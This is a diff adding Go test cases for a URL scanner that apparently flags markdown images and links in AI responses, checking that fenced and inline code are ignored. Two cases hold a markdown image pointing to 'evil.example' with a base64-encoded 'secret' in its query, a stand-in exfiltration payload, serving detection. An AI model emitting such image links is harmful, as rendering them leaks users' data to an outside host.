@@ -231,6 +231,12 @@ func TestURLs(t *testing.T) {
 		{"not http", "![x](data:image/png;base64,AAAA) [m](mailto:a@b.c) [j](javascript:alert(1))", nil},
 		{"bare URL without documents is not reported", "see https://example.com/a for more", nil},
 		{"escaped bracket", `\[not a link](https://x.example/)`, nil},
+		{"fenced code is not rendered", "Markdown images look like this:\n\n```md\n![x](https://img.example/p.png?d=1)\n```\n\nand links [like this](https://docs.example/a).",
+			[]want{{TypeLink, "https://docs.example/a", 0.5}}},
+		{"tilde fence to the end", "~~~~\n<img src=\"https://t.example/i.gif?q=1\">\n~~~\nstill code", nil},
+		{"inline code", "Write `![logo](https://cdn.example/l.png?v=2)` or ``[a](https://b.example/)`` in your README.", nil},
+		{"after a closed fence", "```\ncode\n```\n![x](https://evil.example/p.png?d=c2VjcmV0)", []want{{TypeImage, "https://evil.example/p.png?d=c2VjcmV0", 0.9}}},
+		{"lone backtick", "It's a ` mark, then ![x](https://evil.example/p.png?d=c2VjcmV0)", []want{{TypeImage, "https://evil.example/p.png?d=c2VjcmV0", 0.9}}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			hs, _ := scan(t, req{response: c.response})
